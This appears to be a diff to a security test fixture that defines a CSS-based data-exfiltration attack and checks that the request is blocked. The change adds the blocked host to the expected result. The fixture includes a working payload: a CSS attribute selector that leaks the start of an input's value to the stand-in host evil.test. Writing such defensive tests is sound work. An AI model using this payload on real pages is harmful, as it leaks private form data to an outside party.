@@ -13,7 +13,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["CWE-200", "CSS selectors level 4"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/css*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<style>input[value^=s] { background: url('http://evil.test/css?starts=s') "
     "}</style><input value=secret-of-the-page><h1>Profile</h1>",
 }
